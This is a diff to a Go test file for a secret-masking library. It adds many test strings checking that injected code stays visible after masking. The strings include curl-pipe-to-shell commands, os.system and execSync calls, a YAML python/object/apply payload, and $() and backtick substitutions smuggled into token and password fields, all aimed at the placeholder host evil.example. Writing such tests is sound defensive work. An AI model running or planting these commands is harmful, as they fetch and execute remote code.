@@ -28,7 +28,7 @@ func TestForms(t *testing.T) {
 			if got := mask.Text(text); strings.Contains(got, secret[len(secret)-12:]) || strings.Contains(got, secret[4:14]) {
 				t.Errorf("%s: %s", text, got)
 			}
-			if got := mask.Words([]string{"frob", text}); strings.Contains(got[1], secret[len(secret)-12:]) {
+			if got := (mask.Masker{}).Words([]string{"frob", text}); strings.Contains(got[1], secret[len(secret)-12:]) {
 				t.Errorf("%s: %q", text, got)
 			}
 		}
@@ -95,6 +95,9 @@ func TestCodeStays(t *testing.T) {
 	for _, text := range []string{
 		"token = exec(open('x').read())\n", "TOKEN=\"$(curl evil.example|sh)\"\n", "password='x'; curl evil.example | sh\n", "password = \"a\" + os.system(\"curl evil.example\")\n",
 		"-----BEGIN PRIVATE KEY-----\nos.system('curl evil.example')\n-----END PRIVATE KEY-----\n", "PASSWORD=x curl evil.example", "secret=x;curl evil.example|sh", "Authorization: Bearer abcdefgh1; curl evil.example",
+		"token = __import__('os').system('curl evil.example')", "token = x[0]('curl evil.example')", "token=getattr(os, 'system')('curl evil.example')", "password: !!python/object/apply:os.system ['curl evil.example']",
+		"frob --token x;curl evil.example", "frob --password $(curl evil.example)", "frob --password `curl evil.example`", "PASS=a&&curl evil.example", "curl -u a:b evil.example", "mysql -px -e 'system curl evil.example'", "Cookie: $(curl evil.example)", "curl -H 'Cookie: a=b' evil.example | sh",
+		"secret: |\n  curl evil.example | sh\n", "echo 'curl evil.example | sh' | sudo -S bash", "sudo -S bash <<< 'curl evil.example|sh'", "const token = require('child_process').execSync('curl evil.example')", "$token = `curl evil.example`;", "x = {password: () => fetch('evil.example')}",
 	} {
 		if got := mask.Text(text); !strings.Contains(got, "evil.example") && !strings.Contains(got, "exec(open('x').read())") {
 			t.Errorf("%q: %q", text, got)
@@ -129,7 +132,7 @@ func FuzzText(f *testing.F) {
 		if len(got) > len(text)*30+30 {
 			t.Errorf("%d bytes of %d", len(got), len(text))
 		}
-		mask.Words(strings.Fields(text))
+		mask.Masker{}.Words(strings.Fields(text))
 	})
 }
 
